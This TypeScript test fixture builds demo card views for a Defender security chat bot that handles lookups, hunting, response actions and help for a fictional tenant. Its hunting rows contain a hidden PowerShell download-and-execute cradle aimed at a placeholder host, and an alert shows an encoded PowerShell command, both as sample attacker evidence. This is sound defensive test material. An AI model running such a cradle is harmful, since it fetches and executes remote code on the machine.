import type { ActionsView, ButtonView, HelpView, HuntView, IndicatorView, ItemView, LookupView, MessageView, SectionView } from '../../src/cards/view-models';

/*
 * Views as core would build them for the Contoso demo tenant: every indicator type, every section kind, buttons
 * on devices and files, error and empty sections. Plus a generator of views far over the card budget.
 */

const PORTAL = 'https://security.microsoft.com';
const TID = 'tid=4a6f1c2e-8f3d-4b1a-9c7e-2d5b6a8f0e13';

let requestCounter = 0;
/** Request ids shaped like the server's: base64url random part, a dot, a base64url signature. */
export function requestId(): string {
  requestCounter++;
  return `rq_${requestCounter.toString(36).padStart(6, '0')}Xk2-pQ.sig_${(requestCounter * 7919).toString(36)}Zb9`;
}

function button(title: string, verb: ButtonView['verb'], primary = false): ButtonView {
  return { title, verb, requestId: requestId(), ...(primary ? { primary: true } : {}) };
}

function incident(id: number, title: string, severity: string, status: string): ItemView {
  return {
    title,
    subtitle: `${severity} · ${status} · incident ${id}`,
    tone: severity === 'High' ? 'attention' : severity === 'Medium' ? 'warning' : 'default',
    facts: [
      { title: 'Assigned to', value: 'soc-tier2@contoso.com' },
      { title: 'Last update', value: '2025-06-02 08:41 UTC' },
    ],
    links: [{ title: 'Open incident', url: `${PORTAL}/incidents/${id}?${TID}` }],
    buttons: [],
  };
}

function alert(id: string, title: string, severity: string, evidence: Array<[string, string]>): ItemView {
  return {
    title,
    subtitle: `${severity} · new · Microsoft Defender for Endpoint`,
    tone: severity === 'High' ? 'attention' : 'warning',
    facts: [{ title: 'Created', value: '2025-06-01 22:14 UTC' }, ...evidence.map(([type, value]) => ({ title: `Evidence: ${type}`, value }))],
    links: [{ title: 'Open alert', url: `${PORTAL}/alerts/${id}?${TID}` }],
    buttons: [],
  };
}

function device(name: string, isolated: boolean): ItemView {
  return {
    title: name,
    subtitle: `${isolated ? 'ISOLATED' : 'not isolated'} · Windows 11 · risk High · last seen 2025-06-02 07:55`,
    tone: isolated ? 'warning' : 'attention',
    facts: [
      { title: 'Relation', value: 'connected to the address 3 times' },
      { title: 'IP addresses', value: '10.20.4.17, fe80::1c2d:9a4f:7b21:e5c0' },
    ],
    links: [{ title: 'Open device', url: `${PORTAL}/machines/v2/9f1c${name.length}e7a/overview?${TID}` }],
    buttons: [isolated ? button('Release from isolation', 'release') : button('Isolate device', 'isolate', true)],
  };
}

function file(name: string, sha256: string): ItemView {
  return {
    title: name,
    subtitle: 'Threat: Trojan:Win32/Emotet.RPX!MTB · on 3 devices here',
    tone: 'attention',
    facts: [
      { title: 'SHA-256', value: sha256 },
      { title: 'Signer', value: 'unsigned' },
      { title: 'Global prevalence', value: '1,204' },
    ],
    links: [{ title: 'Open file', url: `${PORTAL}/file/${sha256}/overview?${TID}` }],
    buttons: [button('Stop and quarantine', 'quarantine', true)],
  };
}

function email(subject: string, sender: string): ItemView {
  return {
    title: subject,
    subtitle: `${sender} → j.doe@contoso.com · Delivered · Phish`,
    tone: 'warning',
    facts: [
      { title: 'Received', value: '2025-06-01 21:03 UTC' },
      { title: 'After delivery', value: 'ZAP moved to junk' },
      { title: 'Matched on', value: 'sender' },
    ],
    links: [{ title: 'Open e-mail', url: `${PORTAL}/emailentity?f=summary&id=b7f0a2&${TID}` }],
    buttons: [],
  };
}

function huntingGroup(table: string, rows: number, summary: Array<[string, string]>): ItemView {
  return {
    title: `${table}: ${rows} rows`,
    facts: summary.map(([title, value]) => ({ title, value })),
    links: [],
    buttons: [],
  };
}

function ok(title: string, items: ItemView[], extra: Partial<SectionView> = {}): SectionView {
  return { title, status: 'ok', items, ...extra };
}

const empty = (title: string): SectionView => ({ title, status: 'empty', items: [] });
const failed = (title: string, error: string): SectionView => ({ title, status: 'error', error, items: [] });

const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';

function indicator(type: string, value: string, headline: string, tone: IndicatorView['tone'], sections: SectionView[], internal = false): IndicatorView {
  return {
    type,
    value,
    internal,
    headline,
    tone,
    sections,
    link: { title: 'Open in Defender', url: `${PORTAL}/ip/${encodeURIComponent(value)}/overview?${TID}` },
  };
}

export function demoIndicators(): IndicatorView[] {
  return [
    indicator('ipv4', '185.220.101.47', '2 alerts (high) · 1 incident · seen on 3 devices', 'attention', [
      ok('Incidents', [incident(1042, 'Multi-stage incident involving Initial access & Command and control', 'High', 'active')]),
      ok('Alerts', [
        alert('da637f1c', 'Communication with a known Tor exit node', 'High', [
          ['Device', 'ws-fin-017.contoso.local'],
          ['Process', 'powershell.exe -enc SQBFAFgA...'],
          ['IP', '185.220.101.47'],
        ]),
        alert('da637f2d', 'Suspicious PowerShell download cradle', 'Medium', [['User', 'CONTOSO\\j.doe']]),
      ]),
      ok('Devices', [device('ws-fin-017', false), device('ws-fin-022', true)], { hiddenCount: 1 }),
      empty('E-mails'),
      ok('Hunting: DeviceNetworkEvents', [
        huntingGroup('DeviceNetworkEvents', 14, [
          ['DeviceName', 'ws-fin-017, ws-fin-022, srv-sql-01'],
          ['RemotePort', '443, 9001'],
          ['InitiatingProcessFileName', 'powershell.exe'],
        ]),
      ]),
    ]),
    indicator('ipv4', '10.20.4.17', '1 device', 'default', [empty('Incidents'), empty('Alerts'), ok('Devices', [device('ws-fin-017', false)])], true),
    indicator('ipv6', '2001:db8:85a3::8a2e:370:7334', 'nothing found', 'good', [empty('Incidents'), empty('Alerts'), empty('Devices')], true),
    indicator('domain', 'login-micros0ft-support.com', '1 alert (medium) · 2 e-mails', 'warning', [
      ok('Alerts', [alert('da63a001', 'Connection to a newly registered domain', 'Medium', [['URL', 'hxxps://login-micros0ft-support.com/owa']])]),
      ok('E-mails', [
        email('Action required: your mailbox is full', 'it-helpdesk@login-micros0ft-support.com'),
        email('Re: invoice 2025-0117', 'billing@login-micros0ft-support.com'),
      ]),
      failed('Hunting: DeviceNetworkEvents', 'throttled by Microsoft, retry in 40 s'),
    ]),
    indicator('url', 'https://login-micros0ft-support.com/owa/auth.php?id=77', '1 e-mail clicked', 'warning', [
      ok('E-mails', [email('Shared document: Q2 bonus plan', 'noreply@login-micros0ft-support.com')]),
      failed('Alerts', 'missing permission SecurityAlert.Read.All: grant it to the app registration and consent'),
    ]),
    indicator('email', 'billing@login-micros0ft-support.com', '3 e-mails delivered', 'warning', [
      ok('E-mails', [email('Re: invoice 2025-0117', 'billing@login-micros0ft-support.com')], {
        hiddenCount: 2,
        showMore: button('Show 2 more', 'showMore'),
      }),
    ]),
    indicator('sha256', SHA256, 'on 3 devices · Trojan:Win32/Emotet.RPX!MTB', 'attention', [
      ok('File', [file('invoice_0117.pdf.exe', SHA256)]),
      ok('Devices', [device('ws-hr-004', false)]),
      ok('Alerts', [alert('da63b7e1', "'Emotet' malware was detected", 'High', [['File', 'C:\\Users\\j.doe\\Downloads\\invoice_0117.pdf.exe']])]),
    ]),
    indicator('sha1', '3395856ce81f2b7382dee72602f798b642f14140', 'no Defender profile', 'default', [
      ok('File', [{ title: 'Defender has no profile for this hash', subtitle: 'on 0 devices here', facts: [], links: [], buttons: [] }]),
    ]),
    indicator('md5', '44d88612fea8a8f36de82e1278abb02f', 'EICAR test file · on 1 device', 'warning', [ok('File', [file('eicar.com', SHA256)])]),
    indicator('cve', 'CVE-2024-21413', '4 exposed devices', 'warning', [ok('Devices', [device('ws-mkt-003', false)])]),
    indicator('mac', '00:1a:2b:3c:4d:5e', '1 device', 'default', [ok('Devices', [device('ws-fin-022', true)])]),
  ];
}

export function lookupView(overrides: Partial<LookupView> = {}): LookupView {
  const indicators = overrides.indicators ?? demoIndicators();
  return {
    kind: 'lookup',
    demo: true,
    notice: `looked up the first ${indicators.length} of 140 indicators`,
    verdict: { highestSeverity: 'High', incidents: 1, alerts: 6, devices: 9, emails: 5, huntingRows: 14 },
    indicators,
    generatedAt: '2025-06-02 08:45 UTC',
    refresh: button('Refresh', 'refresh'),
    ...overrides,
  };
}

export function huntView(overrides: Partial<HuntView> = {}): HuntView {
  const columns = ['Timestamp', 'DeviceName', 'RemoteIP', 'RemotePort', 'InitiatingProcessCommandLine'];
  const rows = Array.from({ length: 20 }, (_, i) => [
    `2025-06-01T22:${String(i).padStart(2, '0')}:07Z`,
    `ws-fin-0${i % 3}`,
    '185.220.101.47',
    i % 2 === 0 ? '443' : '9001',
    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"',
  ]);
  return {
    kind: 'hunt',
    demo: true,
    query:
      'DeviceNetworkEvents\n| where RemoteIP == "185.220.101.47"\n' + '| project Timestamp, DeviceName, RemoteIP, RemotePort, InitiatingProcessCommandLine',
    columns,
    rows,
    page: 2,
    pageCount: 5,
    totalRows: 83,
    previous: button('Previous', 'huntPage'),
    next: button('Next', 'huntPage'),
    ...overrides,
  };
}

export function actionsView(overrides: Partial<ActionsView> = {}): ActionsView {
  return {
    kind: 'actions',
    demo: true,
    title: 'Response actions',
    items: [
      {
        title: 'Isolate ws-fin-017',
        subtitle: 'Pending · requested by j.doe@contoso.com · waiting for a second approver',
        tone: 'warning',
        facts: [
          { title: 'Requested', value: '2025-06-02 08:47 UTC' },
          { title: 'Expires', value: '2025-06-02 09:02 UTC' },
        ],
        links: [{ title: 'Open device', url: `${PORTAL}/machines/v2/9f1ce7a/overview?${TID}` }],
        buttons: [button('Approve', 'isolate', true)],
      },
      {
        title: 'Stop and quarantine invoice_0117.pdf.exe on ws-hr-004',
        subtitle: 'Succeeded · 2025-06-02 08:31 UTC',
        tone: 'good',
        facts: [{ title: 'Machine action', value: '5f2d1c0e-7b9a-4e3f-a1d2-6c8b9e0f1a2b' }],
        links: [],
        buttons: [],
      },
    ],
    ...overrides,
  };
}

export function helpView(overrides: Partial<HelpView> = {}): HelpView {
  return {
    kind: 'help',
    demo: true,
    reason: 'I did not understand "lokup 1.2.3.4".',
    commands: [
      {
        usage: 'lookup <indicators>',
        description: 'Incidents, alerts, devices, files, e-mails and hunting rows for IPs, domains, URLs, hashes, e-mails.',
      },
      { usage: 'hunt <KQL query>', description: 'Runs an advanced hunting query and pages through the rows.' },
      { usage: 'isolate <device>', description: 'Asks to isolate a device (role check, optional second approver).' },
      { usage: 'actions', description: 'Your pending and recent response actions.' },
      { usage: 'help', description: 'This list.' },
    ],
    ...overrides,
  };
}

export function messageViews(): MessageView[] {
  return [
    { kind: 'message', demo: false, tone: 'progress', title: 'Looking up 12 indicators...' },
    { kind: 'message', demo: true, tone: 'info', title: 'Demo mode', text: 'Answers come from the built-in demo tenant.' },
    {
      kind: 'message',
      demo: false,
      tone: 'warning',
      title: 'You may not isolate devices.',
      text: 'Ask to be added to the SOC responders group.',
    },
    {
      kind: 'message',
      demo: false,
      tone: 'error',
      title: 'Defender could not be reached.',
      text: 'Run `doctor` to check the connection.',
    },
  ];
}

/** Long titles in several scripts, with emoji: multi-byte UTF-8 makes the budget count bytes, not characters. */
const UNICODE_TITLE =
  'Подозрительная активность PowerShell на устройстве 財務部のワークステーション 🚨🔥 ' +
  'نشاط مشبوه من عنوان IP خارجي — ' +
  'Sospechoso: conexión a un nodo de salida de Tor desde un servidor de producción';

/** Far over the budget: `indicatorCount` indicators, six sections of `itemsPerSection` items each. */
export function hugeLookupView(indicatorCount = 10, itemsPerSection = 200): LookupView {
  const items = (prefix: string, withButton: boolean): ItemView[] =>
    Array.from({ length: itemsPerSection }, (_, i) => ({
      title: `${prefix} ${i + 1}: ${UNICODE_TITLE}`,
      subtitle: `High · new · ${UNICODE_TITLE.slice(0, 60)}`,
      tone: 'attention',
      facts: [
        { title: 'Device', value: `ws-${i}.contoso.local` },
        { title: 'Title', value: UNICODE_TITLE },
      ],
      links: [{ title: 'Open', url: `${PORTAL}/alerts/da${i}?${TID}` }],
      buttons: withButton ? [button('Isolate device', 'isolate', true)] : [],
    }));
  const indicators = Array.from({ length: indicatorCount }, (_, n) =>
    indicator('ipv4', `203.0.113.${n + 1}`, `${itemsPerSection} alerts (high) · ${itemsPerSection} devices`, 'attention', [
      ok('Incidents', items('Incident', false)),
      ok('Alerts', items('Alert', false)),
      ok('Devices', items('Device', true), { showMore: button('Show more devices', 'showMore') }),
      ok('File', items('File', true)),
      ok('E-mails', items('E-mail', false)),
      ok('Hunting: DeviceNetworkEvents', items('Row group', false)),
    ]),
  );
  return lookupView({ indicators, notice: `looked up the first ${indicatorCount} of 140 indicators` });
}

/** Total of listed items in a view's sections. */
export function itemCount(view: LookupView): number {
  return view.indicators.reduce((sum, i) => sum + i.sections.reduce((s, section) => s + section.items.length, 0), 0);
}
